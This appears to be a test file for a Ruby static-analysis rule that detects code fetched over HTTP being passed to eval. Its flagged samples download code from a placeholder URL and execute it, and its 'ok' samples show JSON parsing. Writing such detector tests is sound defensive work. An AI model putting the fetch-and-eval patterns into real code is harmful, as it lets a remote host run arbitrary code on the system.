# ruleid: rb-reply-is-code
eval(Net::HTTP.get(URI("https://example.invalid/raw/x")))
# ruleid: rb-reply-is-code
eval(open("https://example.invalid/raw/x").read)
# ruleid: rb-reply-is-code
instance_eval(URI.open("https://example.invalid/raw/x").read)
# ruleid: rb-reply-is-code
eval(reply.body)
# ok: rb-reply-is-code
data = JSON.parse(Net::HTTP.get(URI("https://example.invalid/x.json")))
# ok: rb-reply-is-code
eval(File.read("Gemfile"))
